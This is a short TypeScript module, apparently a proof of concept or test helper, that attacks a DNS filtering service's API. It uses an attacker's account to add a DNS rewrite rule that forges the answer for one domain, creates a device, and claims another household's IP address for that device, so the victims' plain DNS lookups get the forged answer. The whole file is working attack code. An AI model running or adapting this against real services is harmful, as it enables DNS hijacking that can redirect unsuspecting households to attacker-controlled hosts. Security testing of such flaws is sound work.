/** The account of the attacker, and the address of another household that plain DNS comes from. */
export type ClaimTarget = {
  readonly url: string;
  /** The `Authorization` header of the attacker's account. */
  readonly authorization: string;
  readonly address: string;
  /** The name that the attacker wants to answer, and the address to answer with. */
  readonly domain: string;
  readonly forged: string;
};

export type Claim = { readonly device: string; readonly status: number; readonly stop: () => Promise<void> };

/** Claims the address of another household for the attacker's device, with a rule that forges the answer for one name. */
export async function startClaimedAddress(target: ClaimTarget): Promise<Claim> {
  const ask = async (method: string, path: string, json?: object) => {
    const response = await fetch(target.url + path, {
      method,
      headers: { authorization: target.authorization, ...(json && { 'content-type': 'application/json' }) },
      ...(json && { body: JSON.stringify(json) }),
    });
    const text = await response.text();
    return { status: response.status, json: text === '' ? undefined : JSON.parse(text) };
  };
  const [{ id: server }] = (await ask('GET', '/oapi/v1/dns_servers')).json;
  const rules = [`||${target.domain}^$dnsrewrite=${target.forged}`];
  await ask('PUT', `/oapi/v1/dns_servers/${server}/settings`, { user_rules_settings: { enabled: true, rules } });
  const wanted = { name: 'Claimed', device_type: 'ROUTER', dns_server_id: server };
  const { id: device } = (await ask('POST', '/oapi/v1/devices', wanted)).json;
  const { status } = await ask('PUT', `/api/v1/devices/${device}/linked_address`, { ip: target.address });
  return {
    device,
    status,
    async stop() {
      await ask('DELETE', `/oapi/v1/devices/${device}`);
    },
  };
}
